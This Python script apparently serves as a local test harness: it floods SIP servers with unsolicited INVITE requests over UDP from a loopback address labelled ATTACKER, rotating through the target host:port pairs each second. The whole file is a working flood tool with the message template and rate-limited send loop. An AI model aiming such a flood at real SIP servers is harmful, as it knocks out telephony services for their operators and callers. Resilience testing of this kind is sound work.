"""A flood of INVITEs that nobody asked for: `python flood.py PER_SECOND SECONDS HOST:PORT...`, from 127.0.0.66.

Each second the next HOST:PORT gets them. First it prints when it begins, in seconds since 1970.
"""

from __future__ import annotations

import socket
import sys
import time

import trio

ATTACKER = "127.0.0.66"
INVITE = """\
INVITE sip:{n}@{host} SIP/2.0\r
Via: SIP/2.0/UDP {attacker}:5060;branch=z9hG4bK{n};rport\r
From: <sip:{n}@{attacker}>;tag={n}\r
To: <sip:{n}@{host}>\r
Call-ID: {n}@{attacker}\r
CSeq: 1 INVITE\r
Contact: <sip:{n}@{attacker}>\r
Max-Forwards: 70\r
Content-Length: 0\r
\r
"""


async def main(per_second: int, seconds: float, places: list[tuple[str, int]]) -> None:
    """Send them evenly, in batches of 10 ms."""
    begun, sent = trio.current_time(), 0
    print(time.time(), flush=True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
        ours.bind((ATTACKER, 0))
        while (passed := trio.current_time() - begun) < seconds:
            host, port = places[int(passed) % len(places)]
            for n in range(sent, int(passed * per_second)):
                ours.sendto(INVITE.format(n=n, host=host, attacker=ATTACKER).encode(), (host, port))
            sent = max(sent, int(passed * per_second))
            await trio.sleep(0.01)


def place(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


if __name__ == "__main__":
    trio.run(main, int(sys.argv[1]), float(sys.argv[2]), [place(text) for text in sys.argv[3:]])
